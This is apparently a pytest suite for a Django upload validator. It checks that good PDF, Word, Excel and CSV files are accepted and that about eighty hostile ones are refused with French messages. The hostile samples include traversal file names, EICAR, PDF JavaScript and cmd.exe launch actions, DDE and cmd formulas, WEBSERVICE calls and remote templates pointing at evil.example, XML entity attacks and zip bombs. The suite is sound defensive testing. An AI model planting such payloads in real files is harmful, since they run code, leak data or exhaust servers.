"""Files that people bring: what is useful comes in, what would harm does not, and both are told in words."""

import re
from pathlib import Path

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile

from core import archives, documents, uploads
from core.models import Document
from core.uploads import PAPERS, TABLES, CheckedFile, Refused, UploadField, check
from tests.core.hostile_files import (
    EICAR,
    LAUGHS,
    READS,
    bomb,
    deep_bomb,
    docx,
    formula,
    lying_size,
    overlapping,
    packed_pdf,
    patched,
    pdf,
    real_xlsx,
    relation,
    with_entry,
    xlsx,
    zipped,
)  # fmt: skip

ROOT = Path(__file__).resolve().parent.parent.parent
ALL = (*PAPERS, *TABLES)


def brought(name: str, content: bytes, accepts=ALL) -> CheckedFile:
    return check(SimpleUploadedFile(name, content), accepts)


GOOD = {
    "a PDF": ("cv.pdf", pdf()),
    "a PDF with packed objects": ("cv.pdf", packed_pdf(b"7 0 <</Type/Page>>")),
    "a PDF whose picture holds anything": (
        "cv.pdf", pdf(b"4 0 obj\n<</Length 9>>\nstream\n\x00/JS\xff/XFA \nendstream\nendobj\n")
    ),
    "a Word file": ("lettre.docx", docx()),
    "a Word file with a link": (
        "lettre.docx", docx(word___rels__document_DOT_xml_DOT_rels=relation("hyperlink", "https://a.example/", "External"))
    ),
    "a Word file with an image": ("lettre.docx", docx(word__media__image1_DOT_png=b"\x89PNG")),
    "a Word file with a page number": ("lettre.docx", docx("<w:p><w:instrText> PAGE </w:instrText></w:p>")),
    "a workbook": ("jeunes.xlsx", real_xlsx()),
    "a workbook with formulas": ("jeunes.XLSX", formula("SUM(A1:A3)&amp;&quot;x&quot;")),
    "a workbook that was printed": ("jeunes.xlsx", xlsx(xl__printerSettings__printerSettings1_DOT_bin=b"\0\1")),
    "a CSV in UTF-8": ("jeunes.csv", "Nom;Prénom\nÉlan;Zoé\n".encode()),
    "a CSV with its mark": ("jeunes.csv", "Nom;Prénom\n".encode("utf-8-sig")),
    "a CSV of Windows": ("jeunes.csv", "Nom;Prénom\n".encode("cp1252")),
    "a CSV in UTF-16": ("jeunes.csv", "Nom\tPrénom\n".encode("utf-16")),
}  # fmt: skip


@pytest.mark.parametrize("case", GOOD)
def test_a_useful_file_comes_in(case):
    name, content = GOOD[case]
    found = brought(name, content)
    assert found.content == content
    assert found.extension == name.rpartition(".")[2].lower()
    assert found.media_type == uploads.KINDS[found.extension].media_type


_RELS = "word/_rels/document.xml.rels"
_FIELD = "<w:p><w:instrText>{}</w:instrText></w:p>"
HOSTILE = {
    # Names.
    "a path": ("../../etc/passwd.pdf", pdf(), "caractères interdits"),
    "a name written backwards": ("cv\u202efdp.exe", pdf(), "caractères interdits"),
    "a name with a line": ("cv\r\nX: y.pdf", pdf(), "caractères interdits"),
    "a name with a colon": ("cv.pdf:secret.pdf", pdf(), "caractères interdits"),
    "a long name": ("a" * 61 + ".pdf", pdf(), "64 caractères"),
    "no extension": ("cv", pdf(), "n’est pas accepté"),
    "an extension alone": (".pdf", pdf(), "caractères interdits"),
    "two extensions": ("cv.pdf.exe", pdf(), "n’est pas accepté"),
    "a page": ("cv.html", b"<script>", "n’est pas accepté"),
    "a photograph": ("carte.jpg", b"\xff\xd8\xff\xe1Exif\0\0", "photographies"),
    "a drawing that runs": ("logo.svg", b"<svg onload=alert(1)>", "photographies"),
    "a workbook with macros": ("x.xlsm", xlsx(), "ancien"),
    "an old Word file": ("x.doc", b"\xd0\xcf\x11\xe0", "ancien"),
    # First bytes and sizes.
    "nothing": ("cv.pdf", b"", "vide"),
    "a program called PDF": ("cv.pdf", b"MZ\x90\0", "n’est pas ce que son nom annonce"),
    "a PDF that begins later": ("cv.pdf", b"<html>" + pdf(), "n’est pas ce que son nom annonce"),
    "a PDF called Word": ("cv.docx", pdf(), "n’est pas ce que son nom annonce"),
    "a page called CSV": ("x.csv", b" <html><script>alert(1)</script>", "autre chose que du texte"),
    "an archive called CSV": ("x.csv", zipped({"a": "b"}), "n’est pas ce que son nom annonce"),
    "a script called CSV": ("x.csv", b"#!/bin/sh\n", "n’est pas ce que son nom annonce"),
    "a CSV with a NUL": ("x.csv", b"a;b\0", "autre chose que du texte"),
    "a CSV of bytes": ("x.csv", b"\x81\x8d\x8f\x90\x9d", "autre chose que du texte"),
    "too large a PDF": ("cv.pdf", b"%PDF-1.7" + b"0" * 10_000_001, "10 Mo au plus"),
    "too large a CSV": ("x.csv", b"a;b\n" * 1_250_001, "5 Mo au plus"),
    # Viruses.
    "EICAR in a CSV": ("x.csv", EICAR, "virus"),
    "EICAR after other words": ("cv.pdf", pdf(b"1 0 obj\n(" + EICAR + b")\nendobj\n"), "virus"),
    "EICAR packed in a Word file": ("x.docx", docx(word__note_DOT_xml=b"<a><![CDATA[" + EICAR + b"]]></a>"), "virus"),
    "EICAR packed in a PDF": ("cv.pdf", packed_pdf(EICAR), "virus"),
    # PDF.
    "a PDF that runs": ("cv.pdf", pdf(b"1 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"), "programme"),
    "a PDF that runs, spelled otherwise": ("cv.pdf", pdf(b"1 0 obj\n<</S/J#61vaScript>>\nendobj\n"), "programme"),
    "a PDF that runs, packed": ("cv.pdf", packed_pdf(b"7 0 <</S/JavaScript>>"), "programme"),
    "a PDF that runs, packed under a short name": ("cv.pdf", packed_pdf(b"7 0 <</JS(x)>>"), "programme"),
    "a PDF that launches": ("cv.pdf", pdf(b"1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n"), "programme"),
    "a PDF with a file inside": ("cv.pdf", pdf(b"1 0 obj\n<</EmbeddedFiles 2 0 R>>\nendobj\n"), "programme"),
    "a PDF that sends": ("cv.pdf", pdf(b"1 0 obj\n<</S/SubmitForm>>\nendobj\n"), "programme"),
    "a locked PDF": ("cv.pdf", pdf(b"1 0 obj\n<</Encrypt 2 0 R>>\nendobj\n"), "mot de passe"),
    "a PDF that is also an archive": ("cv.pdf", pdf() + zipped({"a": "b"}), "abîmé"),
    "half a PDF": ("cv.pdf", pdf()[:40], "abîmé"),
    "a PDF packed in a rare way": ("cv.pdf", packed_pdf(b"x", b"/Filter/LZWDecode"), "abîmé"),
    "a PDF packed with garbage": (
        "cv.pdf", pdf(b"5 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\nxx\nendstream\nendobj\n"), "abîmé"
    ),
    "a PDF that swells": ("cv.pdf", packed_pdf(b" " * 50_000_001), "trop volumineux"),
    # Archives.
    "half an archive": ("x.docx", docx()[:200], "abîmé"),
    "an archive after something": ("x.docx", b"PK\x03\x04" + docx(), "abîmé"),
    "an archive before something": ("x.docx", docx() + b"<script>", "abîmé"),
    "a bomb": ("x.docx", bomb(), "trop volumineux"),
    "a bomb by its size": ("x.docx", deep_bomb(), "trop volumineux"),
    "a crowd": ("x.docx", docx(**{f"word__p{number}_DOT_xml": "<a/>" for number in range(200)}), "trop volumineux"),
    "a member longer than it says": ("x.docx", lying_size(), "abîmé"),
    "members on top of one another": ("x.docx", overlapping(), "abîmé"),
    "a member that climbs": ("x.docx", patched(docx(word__aa__x_DOT_xml="<a/>"), b"word/aa/x", b"word/../x"), "abîmé"),
    "a member from the root": ("x.docx", patched(docx(word__x_DOT_xml="<a/>"), b"word/x.xml", b"/ord/x.xml"), "abîmé"),
    "a member of Windows": ("x.docx", patched(docx(word__x_DOT_xml="<a/>"), b"word/x.xml", b"word\\x.xml"), "abîmé"),
    "the same member twice": ("x.docx", patched(docx(word__x_DOT_xml="<a/>", word__y_DOT_xml="<a/>"), b"word/x.xml", b"word/Y.xml"), "abîmé"),
    "a link to elsewhere": ("x.docx", with_entry(lambda entry: setattr(entry, "external_attr", 0xA1FF << 16)), "abîmé"),
    "a rare compression": ("x.docx", with_entry(lambda entry: setattr(entry, "compress_type", 12)), "abîmé"),
    "a wrong sum": ("x.docx", patched(docx("<w:p/>"), docx("<w:p/>")[14:18], b"abcd"), "abîmé"),
    # What is in them.
    "a Word file called Excel": ("x.xlsx", docx(), "abîmé"),
    "an archive of anything": ("x.docx", zipped({"a.xml": "<a/>"}), "abîmé"),
    "a template": ("x.docx", docx(main="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"), "abîmé"),
    "a macro": ("x.docx", docx(word__vbaProject_DOT_bin=b"x"), "macro"),
    "a macro by its type": ("x.docx", docx(types='<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>'), "macro"),
    "an old macro sheet": ("x.xlsx", xlsx(xl__macrosheets__sheet1_DOT_xml="<a/>"), "macro"),
    "an object inside": ("x.docx", docx(word__embeddings__object_DOT_xml="<a/>"), "objet"),
    "a program inside": ("x.docx", docx(word__media__image1_DOT_exe=b"MZ"), "objet"),
    "a template from elsewhere": (
        "x.docx", docx(word___rels__settings_DOT_xml_DOT_rels=relation("attachedTemplate", "https://evil.example/x.dotm", "External")),
        "ailleurs",
    ),
    "a picture from elsewhere": (
        "x.docx", docx(word___rels__document_DOT_xml_DOT_rels=relation("image", "https://evil.example/x.png", "external")), "ailleurs"
    ),
    "a link to a file": (
        "x.docx", docx(word___rels__document_DOT_xml_DOT_rels=relation("hyperlink", "file://evil/x", "External")), "ailleurs"
    ),
    "a workbook tied to another": ("x.xlsx", xlsx(xl__externalLinks__externalLink1_DOT_xml="<a/>"), "ailleurs"),
    "a workbook tied to a server": ("x.xlsx", xlsx(xl__connections_DOT_xml="<a/>"), "ailleurs"),
    "a formula that runs": ("x.xlsx", formula("cmd|'/C calc'!A0"), "ailleurs"),
    "a formula that asks a server": ("x.xlsx", formula("_xlfn.WEB&#83;ERVICE(&quot;https://evil.example&quot;)"), "ailleurs"),
    "a formula in disguise": ("x.xlsx", formula("<![CDATA[cmd|'/C calc'!A0]]>"), "ailleurs"),
    "a field that runs": ("x.docx", docx(_FIELD.format("DDE") + _FIELD.format("AUTO c:\\\\x")), "ailleurs"),
    "a field that reads": ("x.docx", docx(_FIELD.format(" INCLUDETEXT &quot;x&quot; ")), "ailleurs"),
    "entities that swell": ("x.docx", docx(word__a_DOT_xml=LAUGHS), "abîmé"),
    "entities that read": ("x.docx", docx(word__a_DOT_xml=READS), "abîmé"),
    "entities in another alphabet": ("x.docx", docx(word__a_DOT_xml=LAUGHS.encode("utf-16")), "abîmé"),
    "a part that is no XML": ("x.docx", docx(word__a_DOT_xml="<a>"), "abîmé"),
    "a part in another encoding": ("x.docx", docx(word__a_DOT_xml=b'<?xml version="1.0" encoding="utf-7"?><a/>'), "abîmé"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_stays_out_and_is_told_why(case):
    name, content, words = HOSTILE[case]
    file = SimpleUploadedFile("x.pdf", content)
    file._name = name  # Django cuts paths and invisible characters: here as a careless parser would give them
    with pytest.raises(Refused) as refused:
        check(file, ALL)
    message = str(refused.value)
    assert words in message
    assert message.endswith(".")
    assert not re.search(r"Error|Traceback|zipfile|expat|None", message)


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 40


def test_a_field_takes_its_own_kinds_only():
    with pytest.raises(Refused, match=r"Choisissez un fichier PDF .pdf \(10 Mo au plus\) ou Word"):
        brought("jeunes.xlsx", real_xlsx(), PAPERS)


def test_the_size_is_not_believed():
    """The size that the upload claims is one thing, what it gives is another."""
    file = SimpleUploadedFile("x.csv", b"a;b\n" * 1_300_000)
    file.size = 10
    with pytest.raises(Refused, match="5 Mo au plus"):
        check(file, TABLES)


def test_nothing_is_inflated_beyond_the_limit(monkeypatch):
    """The bomb is refused on its inventory: not one of its members is opened."""
    monkeypatch.setattr(archives, "_inflate", None)
    with pytest.raises(archives.BadArchive, match="trop volumineux"):
        archives.members(bomb())


class OneFile(forms.Form):
    piece = UploadField(accepts=PAPERS, label="Pièce")


def test_a_form_gives_a_checked_file():
    form = OneFile({}, {"piece": SimpleUploadedFile("Kermarrec Yann.pdf", pdf())})
    assert form.is_valid()
    assert isinstance(form.cleaned_data["piece"], CheckedFile)
    assert "Kermarrec" not in repr(form.cleaned_data["piece"])


@pytest.mark.parametrize(("files", "words"), [
    ({}, "Choisissez un fichier."),
    ({"piece": SimpleUploadedFile("cv.pdf", b"")}, "vide"),
    ({"piece": SimpleUploadedFile("cv.pdf", b"MZ")}, "n’est pas ce que son nom annonce"),
])  # fmt: skip
def test_a_form_says_what_is_wrong_beside_its_field(files, words):
    form = OneFile({}, files)
    assert not form.is_valid()
    assert words in form.errors["piece"][0]


def test_a_form_says_what_it_takes():
    html = OneFile().as_p()
    assert 'accept=".pdf,.docx"' in html
    assert "PDF .pdf (10 Mo au plus) ou Word .docx (5 Mo au plus)." in html


def test_a_checked_file_is_kept_under_a_name_of_ours(db, settings, tmp_path):
    settings.PRIVATE_FILES = tmp_path
    stored = documents.store_checked(brought("Kermarrec Yann né en 2005.pdf", pdf()), label="piece")
    assert re.fullmatch(r"piece-\d{4}-\d\d-\d\d\.pdf", stored.filename)
    assert documents.read(stored) == pdf()
    assert [path.name for path in tmp_path.rglob("*") if path.is_file()] == [stored.path[3:]]
    answer = documents.as_attachment(stored)
    assert answer["Content-Type"] == "application/pdf"
    assert answer["Content-Disposition"].startswith("attachment")


@pytest.mark.parametrize(
    "name", ["", "a" * 65, 'x".pdf', "x\r\n.pdf", "../x.pdf", "Zoé.pdf", "deux mots.pdf", ".pdf"]
)
def test_a_document_never_has_a_name_that_is_not_plain(db, settings, tmp_path, name):
    settings.PRIVATE_FILES = tmp_path
    with pytest.raises(ValueError, match="no name for a document"):
        documents.store(b"x", filename=name, media_type="application/pdf")
    assert not Document.objects.exists()


ROOMS = ("core", "accounts", "notifications", "partners", "youths", "referrals", "reporting", "portal")
_UNCHECKED = re.compile(r"\b(?:FILES|FileField|ImageField|FilePathField|UploadedFile|default_storage)\b")

# A form that is given back only says whether files were with it.
_ONLY_WHETHER = re.compile(r"bool\(request\.FILES\)")


def test_no_other_door_takes_a_file():
    """The safe path is the only one: whoever reads an upload anywhere else fails here."""
    doors = {
        path.relative_to(ROOT).as_posix()
        for room in ROOMS
        for path in (ROOT / room).rglob("*.py")
        if _UNCHECKED.search(_ONLY_WHETHER.sub("", path.read_text(encoding="utf-8")))
    }
    assert doors == {"core/uploads.py"}
